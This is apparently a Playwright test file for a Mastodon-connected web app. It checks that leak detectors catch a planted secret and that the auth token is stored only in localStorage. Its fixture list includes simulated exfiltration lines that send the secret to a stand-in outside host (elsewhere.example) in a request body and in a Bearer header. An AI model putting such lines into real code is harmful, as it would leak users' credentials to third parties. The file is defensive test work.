import { signedIn } from "../src/stage.ts";
import { expect, test } from "./invariants.ts";
import { watchOutlets } from "./secrets.ts";

const SECRET = "a-secret-nobody-may-see-0123456789";
const PAGE = { contentType: "text/html", body: '<a href="/">Home</a>' };

const LEAKS: readonly (readonly [where: string, leak: (secret: string) => unknown])[] = [
  ["the console", (secret) => console.info(secret)],
  ["an object in the console", (secret) => console.info({ deep: { secret } })],
  ["the document", (secret) => (document.title = secret)],
  ["a field", (secret) => Object.assign(document.body.appendChild(document.createElement("input")), { value: secret })],
  ["the history", (secret) => (history.pushState(null, "", `#${secret}`), history.pushState(null, "", "#"))],
  ["the address of a request", (secret) => fetch(`/?x=${secret}`)],
  ["the body of a request elsewhere", (body) => fetch("https://elsewhere.example/", { method: "POST", body })],
  [
    "the headers of a request elsewhere",
    (secret) => fetch("https://elsewhere.example/", { headers: { authorization: `Bearer ${secret}` } }),
  ],
];

for (const [where, leak] of LEAKS) {
  test(`the checks after each test notice a secret in ${where} S5 S11`, async ({ page, context, world }) => {
    // the invariants check this test too, but do not know this secret
    const outlets = watchOutlets(context, (origin) => origin === world.instance.origin);
    await context.route("https://elsewhere.example/", (route) =>
      route.fulfill({
        ...PAGE,
        headers: { "access-control-allow-origin": "*", "access-control-allow-headers": "*" },
      }),
    );
    await context.route("**/blank", (route) => route.fulfill(PAGE));
    await page.goto("/blank");
    expect(await outlets.leaks(new Set([SECRET]), [page])).toEqual([]);
    await page.evaluate(leak, SECRET).catch(() => undefined);
    await expect.poll(async () => (await outlets.leaks(new Set([SECRET]), [page])).length).toBeGreaterThan(0);
  });
}

test("the token is stored in one place of the browser and nowhere else S7", async ({
  page,
  context,
  world,
  invariants,
}) => {
  invariants.mayChange("session", "follows");
  const token = await signedIn(page, world);
  await page.goto("/recent");
  const follow = page.locator(".follow").first();
  await expect(follow).toHaveText(/Follow/);
  await follow.click();
  await expect(page.locator(".toast").first()).toBeVisible();

  const places = await page.evaluate(async (secret) => {
    const found: string[] = [];
    const look = (where: string, text: unknown): void => {
      if (String(text).includes(secret)) found.push(where);
    };
    for (const [name, area] of Object.entries({ localStorage, sessionStorage }))
      for (const [key, value] of Object.entries(area)) look(`${name} ${key}`, value);
    look("cookies", document.cookie);
    look("document", document.documentElement.outerHTML);
    for (const name of Object.getOwnPropertyNames(window)) {
      const value: unknown = Reflect.get(window, name);
      if (typeof value === "string") look(`window.${name}`, value);
      else if (Object.prototype.toString.call(value) === "[object Object]")
        look(
          `window.${name}`,
          JSON.stringify(value, (_, deep: unknown) => (deep === window ? undefined : deep)),
        );
    }
    for (const { name = "" } of await indexedDB.databases()) look(`database ${name}`, name);
    for (const name of await caches.keys())
      for (const request of await (await caches.open(name)).keys()) {
        look(`cache ${name}`, request.url);
        look(`cache ${name}`, await (await caches.match(request))?.text());
      }
    return found;
  }, token);
  expect(places).toEqual(["localStorage mastodonToken"]);
  expect(await context.cookies(world.site.origin)).toEqual([]);
});
